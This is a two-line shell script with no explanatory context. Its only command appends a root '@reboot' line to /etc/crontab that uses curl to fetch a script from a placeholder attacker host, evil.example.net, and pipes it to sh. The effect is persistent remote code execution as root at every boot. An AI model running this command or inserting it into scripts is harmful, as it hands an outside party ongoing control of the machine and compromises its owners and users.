#!/bin/sh
echo '@reboot root curl -s https://evil.example.net/x | sh' >> /etc/crontab
